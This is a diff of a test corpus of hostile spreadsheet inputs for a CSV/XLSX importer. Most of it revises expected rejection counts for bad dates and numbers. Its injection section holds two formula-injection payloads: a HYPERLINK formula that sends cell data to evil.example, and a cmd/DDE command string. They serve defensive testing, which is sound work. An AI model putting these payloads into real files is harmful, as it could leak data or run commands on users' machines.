@@ -2,8 +2,8 @@
 
 Every CSV speaks the test mapping below (a `cases` export with English headers). `expect` is what the importer
 must do: "refused" (one clear sentence, warehouse untouched), "loaded" (good rows in, bad rows quarantined in
-`rejects`), or "either" (both are acceptable; the invariants still apply). `rejected` is the exact number of
-quarantined rows when the file loads.
+`rejects`; a bad value of a row that loads is set aside there), or "either" (both are acceptable; the invariants
+still apply). `rejected` is the exact number of rejected rows when the file loads.
 """
 from __future__ import annotations
 
@@ -210,7 +210,8 @@ CORPUS: list[Hostile] = [
     Hostile("negative_year", _b(csv(row(), row(case="h-2", received="-0001-01-01", closed=""))), "loaded", 1),
     Hostile("february_30", _b(csv(row(), row(case="h-2", received="2026-02-30 10:00:00", closed=""))), "loaded", 1),
     Hostile("closed_before_received",
-            _b(csv(row(), row(case="h-2", received="2026-01-05 09:00:00", closed="2025-01-01 00:00:00"))), "loaded", 1),
+            _b(csv(row(), row(case="h-2", received="2026-01-05 09:00:00", closed="2025-01-01 00:00:00"))), "loaded",
+            0),  # the closing time is set aside (NULL, listed in rejects) and the case loads
     Hostile("epoch_seconds_as_date", _b(csv(row(), row(case="h-2", received="1767600000", closed=""))), "loaded", 1),
     Hostile("excel_serial_beyond_9999", lambda: xlsx([["s-1", 2958466.5, "", "received", "x", "g01", "1"],
                                                       ["s-2", 46027.4, "", "received", "x", "g01", "1"]]),
@@ -221,11 +222,11 @@ CORPUS: list[Hostile] = [
     Hostile("excel_negative_serial", lambda: xlsx([["s-1", -5, "", "received", "x", "g01", "1"],
                                                    ["s-2", 46027.4, "", "received", "x", "g01", "1"]]),
             "either", suffix=".xlsx"),
-    Hostile("negative_counts", _b(csv(row(), row(case="h-2", visits="-5"))), "loaded", 1),
+    Hostile("negative_counts", _b(csv(row(), row(case="h-2", visits="-5"))), "loaded", 0),  # visits set aside
     Hostile("huge_numbers", _b(csv(row(), row(case="h-2", visits="99999999999999999999999"),
-                                   row(case="h-3", visits="1e308"))), "loaded", 2),
+                                   row(case="h-3", visits="1e308"))), "loaded", 0),  # visits set aside
     Hostile("nan_and_infinity", _b(csv(row(), row(case="h-2", visits="NaN"), row(case="h-3", visits="-inf"))),
-            "loaded", 2),
+            "loaded", 0),  # visits set aside
     # --- injection -------------------------------------------------------------------------------------------
     Hostile("formula_hyperlink", _b(csv(row(matter='=HYPERLINK("http://evil.example/?"&A1,"点此")'))), "loaded", 0),
     Hostile("formula_cmd", _b(csv(row(matter="+cmd|' /C calc'!A0"))), "loaded", 0),
